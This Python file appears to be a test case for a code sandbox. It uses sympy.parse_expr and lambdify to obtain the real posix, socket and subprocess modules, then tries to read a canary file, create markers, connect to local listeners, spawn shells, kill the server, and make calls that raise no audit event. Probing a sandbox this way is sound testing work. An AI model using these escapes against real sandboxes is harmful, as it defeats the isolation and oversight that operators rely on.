# technique: sympy.parse_expr evaluates its string with the real builtins in sympy's own frame (not the user's): __import__ hands back the real posix, _socket and subprocess modules (loaded in the science template by the libraries); then every goal, called from the user's frame, inside the string parse_expr evaluates and inside a function lambdify compiles from a string: read the canary, create MARKER_PATH, connect to both listeners, start a process, signal the server; last posix.mkfifo and posix.pidfd_open of the server, which raise no audit event (only the kernel is left)
# expect: any
import sympy

def real(name):
    return sympy.parse_expr('__import__("%s")' % name)

posix, sock, subprocess = real("posix"), real("_socket"), real("subprocess")

def read_canary():
    fd = posix.open("CANARY_PATH", posix.O_RDONLY)
    return posix.read(fd, 4096)

def connect(family, address):
    s = sock.socket(family, sock.SOCK_STREAM)
    s.connect(address)
    s.sendall(b"escaped")
    return s

attempts = [
    ("parse_expr open canary", lambda: sympy.parse_expr('open("CANARY_PATH").read()')),
    ("posix.open canary", read_canary),
    ("posix.open marker", lambda: posix.open("MARKER_PATH", posix.O_WRONLY | posix.O_CREAT, 0o644)),
    ("posix.mkdir marker", lambda: posix.mkdir("MARKER_PATH")),
    ("posix.symlink marker", lambda: posix.symlink("CANARY_PATH", "MARKER_PATH")),
    ("posix.rename canary", lambda: posix.rename("CANARY_PATH", "MARKER_PATH")),
    ("tcp connect", lambda: connect(sock.AF_INET, ("127.0.0.1", LISTENER_PORT))),
    ("unix connect", lambda: connect(sock.AF_UNIX, "LISTENER_PATH")),
    ("subprocess.run", lambda: subprocess.run(["/bin/sh", "-c", "touch MARKER_PATH"])),
    ("posix.system", lambda: posix.system("touch MARKER_PATH")),
    ("posix.posix_spawn", lambda: posix.posix_spawn("/bin/sh", ["sh", "-c", "touch MARKER_PATH"], {})),
    ("posix.fork", lambda: posix.fork()),
    ("posix.kill server", lambda: posix.kill(SERVER_PID, 9)),
]
# The same, evaluated in sympy's frame (parse_expr turns unknown names into Symbols: only
# attribute names and literals here).
inside = [
    ("eval open canary", '__import__("builtins").open("CANARY_PATH").read()'),
    ("eval posix.open canary", '__import__("posix").read(__import__("posix").open("CANARY_PATH", 0), 4096)'),
    ("eval posix.open marker", '__import__("posix").open("MARKER_PATH", 65, 420)'),
    ("eval posix.mkdir marker", '__import__("posix").mkdir("MARKER_PATH")'),
    ("eval tcp connect", '__import__("_socket").socket().connect(("127.0.0.1", LISTENER_PORT))'),
    ("eval unix connect", '__import__("_socket").socket(1, 1).connect("LISTENER_PATH")'),
    ("eval subprocess", '__import__("subprocess").run(["/bin/sh", "-c", "touch MARKER_PATH"])'),
    ("eval posix.system", '__import__("posix").system("touch MARKER_PATH")'),
    ("eval posix.posix_spawn", '__import__("posix").posix_spawn("/bin/sh", ["sh", "-c", "touch MARKER_PATH"], {})'),
    ("eval posix.kill server", '__import__("posix").kill(SERVER_PID, 9)'),
]
for name, expr in inside:
    attempts.append((name, lambda expr=expr: sympy.parse_expr(expr)))
# lambdify compiles a string into a function of its own ("<lambdifygenerated-N>").
for name, expr in inside[:4] + inside[6:8]:
    attempts.append((name.replace("eval", "lambdify"), lambda expr=expr: sympy.lambdify("x", expr)(1)))
outcomes = {}
for name, attempt in attempts:
    try:
        outcomes[name] = "returned %r" % (attempt(),)
    except Exception as e:
        outcomes[name] = "%s: %s" % (type(e).__name__, str(e)[:200])
print(outcomes)
try:
    posix.mkfifo("MARKER_PATH")        # no audit event
except OSError as e:
    print("mkfifo: %s" % e)
posix.pidfd_open(SERVER_PID)           # no audit event
